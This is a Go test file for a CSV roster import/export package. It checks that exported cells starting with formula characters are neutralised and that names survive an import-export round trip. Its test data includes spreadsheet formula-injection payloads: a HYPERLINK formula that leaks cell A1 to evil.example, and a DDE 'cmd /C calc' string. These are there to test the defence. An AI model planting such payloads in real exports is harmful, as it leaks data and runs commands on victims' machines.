package csvio

import (
	"bytes"
	"encoding/csv"
	"iter"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rollcall-sync/rollcall/license"
)

// nasty are names a spreadsheet or a CSV writer could get wrong.
var nasty = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"-1", "+1", "@SUM(A1)", "=1+1", "'=already quoted", "''-two quotes", "'plain quote",
	`Ann "Al" Lee`, "Lee, Ann", "multi\nline", "multi\r\nline", "Zoë Ölberg", "tab\tinside", "x=1", "",
}

// readAs is how ReadImport reads a nasty name from a hand-made file: one
// leading quote before a formula character is taken as neutralisation, and
// encoding/csv reads CRLF inside a quoted cell as LF.
var readAs = map[string]string{"'=already quoted": "=already quoted", "''-two quotes": "'-two quotes", "multi\r\nline": "multi\nline"}

func membersOf(rows []Row, now time.Time) []*license.Member {
	out := make([]*license.Member, len(rows))
	for i, r := range rows {
		m := &license.Member{Email: r.Email, Claims: []license.Claim{
			{Source: license.CSVSource("20261125-k3f9a"), Name: r.Name, Role: r.Role, FirstSeen: now},
			{Source: "google-directory/district:/Students", OrgUnit: "/Students", FirstSeen: now.Add(time.Hour)},
		}}
		m.Resolve()
		out[i] = m
	}
	return out
}

func TestExportRoundTrip(t *testing.T) {
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	_ = w.Write([]string{"email", "name", "role"})
	roles := []string{"teacher", "student", "other", ""}
	for i, n := range nasty {
		_ = w.Write([]string{"user" + string(rune('a'+i)) + "@example.org", n, roles[i%len(roles)]})
	}
	_ = w.Write([]string{"-dash@example.org", "dash", ""})
	_ = w.Write([]string{"'=q@example.org", "quote", ""})
	w.Flush()

	first, err := ReadImport(&in, "in.csv")
	if err != nil {
		t.Fatalf("ReadImport of the original: %v", err)
	}
	if len(first) != len(nasty)+2 {
		t.Fatalf("read %d rows, want %d", len(first), len(nasty)+2)
	}
	for i, n := range nasty {
		want := n
		if r, ok := readAs[n]; ok {
			want = r
		}
		if first[i].Name != want {
			t.Errorf("original row %d name %q, want %q", i, first[i].Name, want)
		}
	}
	var out bytes.Buffer
	if err := WriteExport(&out, slices.Values(membersOf(first, time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)))); err != nil {
		t.Fatalf("WriteExport: %v", err)
	}
	second, err := ReadImport(bytes.NewReader(out.Bytes()), "export.csv")
	if err != nil {
		t.Fatalf("ReadImport of the export: %v\n%s", err, out.String())
	}
	// Lines differ (a multi-line name moves the rest down); the people must not.
	for i := range second {
		second[i].Line = first[i].Line
	}
	if !slices.Equal(first, second) {
		t.Errorf("import → export → import changed the rows:\n%+v\n%+v", first, second)
	}
}

func TestExportNeutralisesFormulas(t *testing.T) {
	ms := []*license.Member{{
		Email: "-x@a.org", Name: "=cmd|' /C calc'!A0", Role: license.RoleStudent, OrgUnit: "@ou",
		Added:  time.Date(2026, 9, 1, 23, 30, 0, 0, time.FixedZone("x", -2*3600)),
		Claims: []license.Claim{{Source: "+weird/source"}, {Source: "manual"}},
	}, {
		Email: "b@a.org", Name: "\tTab", Role: license.RoleTeacher, Claims: []license.Claim{{Source: "key"}},
	}, {
		Email: "c@a.org", Name: "\rCR",
	}}
	var out bytes.Buffer
	if err := WriteExport(&out, slices.Values(ms)); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(out.Bytes(), []byte("\ufeffemail,name,role,org_unit,sources,added\n")) {
		t.Errorf("export starts %q, want a BOM and the header", out.Bytes()[:min(out.Len(), 50)])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff")))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"email", "name", "role", "org_unit", "sources", "added"},
		{"'-x@a.org", "'=cmd|' /C calc'!A0", "student", "'@ou", "'+weird/source;manual", "2026-09-02"},
		{"b@a.org", "'\tTab", "teacher", "", "key", ""},
		{"c@a.org", "'\rCR", "", "", "", ""},
	}
	if len(recs) != len(want) {
		t.Fatalf("export has %d records, want %d:\n%s", len(recs), len(want), out.String())
	}
	for i := range want {
		if !slices.Equal(recs[i], want[i]) {
			t.Errorf("record %d = %q, want %q", i, recs[i], want[i])
		}
		for _, c := range recs[i] {
			if c != "" && dangerous(c[0]) {
				t.Errorf("record %d cell %q starts with a formula character", i, c)
			}
		}
	}
}

func TestExportStopsOnWriteError(t *testing.T) {
	var seq iter.Seq[*license.Member] = func(yield func(*license.Member) bool) {
		for i := 0; i < 100000; i++ {
			if !yield(&license.Member{Email: "a@b.org", Name: strings.Repeat("x", 100)}) {
				return
			}
		}
	}
	if err := WriteExport(&failingWriter{left: 4096}, seq); err == nil {
		t.Error("WriteExport to a writer that fails returned no error")
	}
}

type failingWriter struct{ left int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.left {
		return 0, bytes.ErrTooLarge
	}
	w.left -= len(p)
	return len(p), nil
}

func TestNeutraliseRoundTrip(t *testing.T) {
	for _, s := range append(nasty, "'", "''", "=", "'\t", "a'=") {
		n := neutralise(s)
		if n != "" && dangerous(n[0]) {
			t.Errorf("neutralise(%q) = %q starts with a formula character", s, n)
		}
		if got := unneutralise(n); got != s {
			t.Errorf("unneutralise(neutralise(%q)) = %q", s, got)
		}
	}
}
